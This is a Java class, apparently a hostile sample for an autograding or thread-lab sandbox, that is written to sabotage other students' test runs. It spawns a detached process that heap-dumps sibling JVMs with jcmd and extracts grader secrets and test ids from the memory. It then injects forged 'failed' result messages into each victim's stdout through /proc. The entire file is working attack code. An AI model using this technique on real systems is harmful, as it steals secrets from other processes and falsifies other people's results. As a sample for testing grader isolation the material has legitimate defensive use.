package threadlab.threads;

import java.io.FileOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashSet;
import java.util.Set;

/** Hostile: attaches to the other students' test JVMs and fails their tests. */
public final class Attacher {

    private static boolean started;

    private Attacher() {
    }

    static synchronized void start() {
        if (started) {
            return;
        }
        started = true;
        String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
        String classes = Path.of(Attacher.class.getProtectionDomain().getCodeSource()
                .getLocation().getPath()).toString();
        long grader = ProcessHandle.current().parent().orElseThrow().pid();
        try {
            new ProcessBuilder("setsid", java, "-cp", classes, Attacher.class.getName(),
                    Long.toString(grader), Long.toString(ProcessHandle.current().pid()))
                    .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                    .redirectError(ProcessBuilder.Redirect.DISCARD).start();
        } catch (java.io.IOException e) {
            // No java to start.
        }
    }

    /**
     * Runs beside the grader for a minute.
     *
     * @param args the grader's pid, and the pid to spare
     */
    public static void main(String[] args) throws Exception {
        long grader = Long.parseLong(args[0]);
        long spare = Long.parseLong(args[1]);
        String jcmd = Path.of(System.getProperty("java.home"), "bin", "jcmd").toString();
        Set<Long> done = new HashSet<>();
        long end = System.nanoTime() + 60_000_000_000L;
        while (System.nanoTime() < end) {
            for (ProcessHandle child : ProcessHandle.of(grader).map(p -> p.children().toList())
                    .orElse(java.util.List.of())) {
                long pid = child.pid();
                if (pid == spare || !done.add(pid)
                        || !child.info().commandLine().orElse("").contains(" -cp ")) {
                    continue;
                }
                Path dump = Path.of(System.getProperty("java.io.tmpdir"), "d" + pid + ".hprof");
                Process p = new ProcessBuilder(jcmd, Long.toString(pid), "GC.heap_dump",
                        dump.toString()).redirectErrorStream(true)
                        .redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
                p.waitFor();
                if (!Files.exists(dump)) {
                    continue;
                }
                Set<String> secrets = new HashSet<>();
                Set<String> ids = new HashSet<>();
                Forge.harvest(new String(Files.readAllBytes(dump), StandardCharsets.ISO_8859_1),
                        secrets, ids);
                Files.delete(dump);
                StringBuilder lines = new StringBuilder();
                for (String secret : secrets) {
                    for (String id : ids) {
                        lines.append('\n').append(secret).append(" {\"type\":\"finished\","
                                + "\"id\":\"").append(id).append("\",\"passed\":false,"
                                + "\"feedback\":\"\",\"millis\":1}\n");
                    }
                }
                try (FileOutputStream out = new FileOutputStream("/proc/" + pid + "/fd/1")) {
                    out.write(lines.toString().getBytes(StandardCharsets.UTF_8));
                } catch (java.io.IOException e) {
                    // Gone already.
                }
            }
            Thread.sleep(200);
        }
    }
}
